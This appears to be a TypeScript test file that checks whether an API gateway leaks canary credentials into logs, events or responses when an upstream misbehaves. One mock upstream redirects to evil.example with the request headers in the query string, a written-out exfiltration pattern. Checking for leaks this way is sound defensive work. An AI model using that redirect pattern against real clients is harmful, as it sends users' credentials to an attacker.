import type { ServerResponse } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLogger } from '../../lib/logger.ts';
import { startTestBus, type TestBus } from '../nats/test-bus.ts';
import { type GatewayWorld, startGatewayWorld } from '../support/gateway-world.ts';
import { answerJson, type ReceivedRequest } from '../support/http-peer.ts';
import { type LaneAnswer, laneKey, startAgent } from './support/signed-lane.ts';

/** Twelve secrets, each of which some party holds rightly, and no other may find (issue 13). */
const canary = (what: string): string => `canary-${what}-"\\/-7f3a`;
const canaries = {
  header: canary('static-header'),
  password: canary('basic-password'),
  username: 'canary-basic-user',
  bearer: canary('bearer'),
  apiKey: canary('api-key-in-a-header'),
  queryKey: canary('api-key-in-the-query'),
  clientId: 'canary-client-id',
  clientSecret: 'canary-client-secret-7f3a',
  accessToken: 'canary-access-token-7f3a',
  argument: 'canary-argument-of-the-call',
  response: 'canary-in-the-response',
};
/** The twelfth is the token of the session, which differs from run to run. */

type Settings = NonNullable<Parameters<typeof startGatewayWorld>[0]['credential']>;

const secret = { name: 'shop-token' };
const kinds: Readonly<Record<string, Settings>> = {
  static_header: {
    settings: { kind: 'static_header', header: 'x-shop', secret },
    secret: { value: canaries.header },
  },
  basic: {
    settings: { kind: 'basic', secret },
    secret: { username: canaries.username, password: canaries.password },
  },
  bearer: { settings: { kind: 'bearer', secret }, secret: { token: canaries.bearer } },
  api_key_header: {
    settings: { kind: 'api_key_header', header: 'x-key', secret },
    secret: { key: canaries.apiKey },
  },
  api_key_query: {
    settings: { kind: 'api_key_query', param: 'key', secret },
    secret: { key: canaries.queryKey },
  },
  oauth2: {
    settings: { kind: 'oauth2_client_credentials', token_url: 'BASE/token', secret },
    secret: { client_id: canaries.clientId, client_secret: canaries.clientSecret },
  },
};

/** Everything that the upstream got, as a debugging server would show it. */
const echoOf = ({ path, query, headers, body }: ReceivedRequest) => ({
  id: 'order-1',
  response: canaries.response,
  sent: { path, query: [...query], headers, body },
});

type Act = (response: ServerResponse, request: ReceivedRequest) => void;

const acts: Readonly<Record<string, Act>> = {
  'answers with what it got': (response, request) => answerJson(response, 200, echoOf(request)),
  'fails with what it got': (response, request) => answerJson(response, 500, echoOf(request)),
  'redirects with what it got': (response, request) => {
    response.setHeader('location', `http://evil.example/?${JSON.stringify(request.headers)}`);
    answerJson(response, 302, echoOf(request));
  },
  'answers with no JSON': (response, request) =>
    void response.writeHead(200).end(`<${JSON.stringify(echoOf(request))}`),
  'resets the connection': (response) => void response.socket?.resetAndDestroy(),
  'puts what it got into the status line': (response, request) =>
    void response.socket?.end(`HTTP/1.1 500 ${String(request.headers.authorization ?? 'x')}\r\n\r\n`),
};

let nats: TestBus;
let act: Act;
let isTokenServerBroken: boolean;
beforeAll(async () => {
  nats = await startTestBus();
});
afterAll(() => nats.stop());

const tokenAnswer: Act = (response, request) => {
  if (isTokenServerBroken) return answerJson(response, 400, { error: 'invalid_client', sent: request });
  return answerJson(response, 200, { access_token: canaries.accessToken, token_type: 'Bearer', expires_in: 3_600 });
};

interface Seen {
  readonly answers: LaneAnswer[];
  /** Lines of the log at the level debug. */
  readonly lines: readonly string[];
  readonly events: GatewayWorld['events'];
  readonly others: string;
  readonly token: string;
  readonly received: number;
}

/** Calls of one kind of credential against every upstream, and everything that users can see of them. */
async function play(credential: Settings): Promise<Seen> {
  const lines: string[] = [];
  const destination = { write: (line: string) => void lines.push(line) };
  const key = laneKey();
  const gateway = await startGatewayWorld({
    bus: nats.connect(),
    key,
    credential,
    logger: createLogger({ level: 'debug', service: 'gateway', destination }),
    answer: (request, response) => (request.path === '/token' ? tokenAnswer : act)(response, request),
  });
  const agent = await startAgent(gateway, key);
  const answers: LaneAnswer[] = [];
  isTokenServerBroken = true;
  act = acts['answers with what it got'] ?? tokenAnswer;
  answers.push(await agent.call({ id: canaries.argument }));
  isTokenServerBroken = false;
  for (act of Object.values(acts)) answers.push(await agent.call({ id: canaries.argument }));
  answers.push(await agent.call({ id: 7, more: canaries.argument }));
  answers.push(await agent.call({ id: canaries.argument }, 'orders.nothing'));
  const others = await Promise.all(
    ['/v1/tools', '/v1/seal/sessions', '/v1/nothing'].map(async (path) => {
      const response = await fetch(`${gateway.url}${path}`, { headers: { authorization: 'Bearer acme' } });
      return JSON.stringify([...response.headers]) + (await response.text());
    }),
  );
  const received = gateway.upstreamPaths().length;
  await gateway.close();
  return { answers, lines, events: gateway.events, others: others.join(), token: agent.token, received };
}

/** A secret as it is, as JSON in JSON, in a URL, and in Base64 at each of three offsets. */
function formsOf(text: string): string[] {
  const json = JSON.stringify(text).slice(1, -1);
  const twice = JSON.stringify(json).slice(1, -1);
  const base64 = ['', 'x', 'xx'].map((before) => {
    const coded = Buffer.from(before + text).toString('base64');
    return coded.slice(4, -4);
  });
  return [text, json, twice, encodeURIComponent(text), ...base64];
}

const isIn = (haystack: string, text: string): boolean => formsOf(text).some((form) => haystack.includes(form));

describe.each(Object.entries(kinds))('calls with a credential of the kind %s', (kind, credential) => {
  it('GEN-07 show none of twelve canaries, whatever the upstream does', async () => {
    const { answers, lines, events, others, token, received } = await play(credential);
    // The calls did reach the upstream, with the credential: otherwise this would prove nothing.
    expect(received).toBeGreaterThanOrEqual(Object.keys(acts).length);
    expect(answers.filter(({ isError }) => isError === false).length).toBeGreaterThanOrEqual(1);
    const elsewhere = lines.join('\n') + JSON.stringify(events) + others;
    expect(lines.length).toBeGreaterThan(0);
    const { argument, response, ...credentials } = canaries;
    for (const [name, value] of Object.entries({ ...credentials, token })) {
      // The name of a user is no secret where its owner sends it back.
      const inAnswers = name === 'username' || name === 'clientId' ? '' : JSON.stringify(answers);
      expect([name, isIn(inAnswers + elsewhere, value)]).toEqual([name, false]);
    }
    // The caller may see its own argument and the response; logs and events hold neither.
    expect([isIn(elsewhere, argument), isIn(elsewhere, response), kind]).toEqual([false, false, kind]);
  });
});
